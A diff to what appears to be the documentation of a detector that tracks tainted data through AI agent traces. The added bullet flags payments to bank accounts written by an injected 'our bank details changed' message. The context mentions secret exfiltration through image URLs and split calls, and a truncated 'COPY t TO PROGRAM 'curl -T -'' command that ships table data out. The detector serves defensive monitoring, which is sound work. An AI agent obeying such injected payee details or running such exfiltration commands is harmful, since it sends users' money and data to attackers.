@@ -29,6 +29,11 @@ Taint tracking through one trace, message by message:
   values that earlier URLs to the same host held are not carried to it, and an image on
   a host the data showed that carries no secret gets no ``low`` finding; a plain link
   ``[text](url)`` needs a click and is no sink;
+- a payment (`tool_words.pays`: ``pay_invoice``, ``create_payment``, a payout) to a bank
+  account no user message gave and no bank record holds (a payee's account on file, a
+  vendor's remit-to) is ``medium`` whatever it carries: the funds themselves leave, to
+  the account an injected "our bank details changed" wrote or to one nothing wrote
+  (``evidence.sink.paid``); a routing number names a bank, not a payee;
 - what each destination receives is accumulated over the trace and tested again, so a
   secret split across several calls (digits cut anywhere) is caught too;
 - a call that ships stored data by naming it — a table (``COPY t TO PROGRAM 'curl -T -
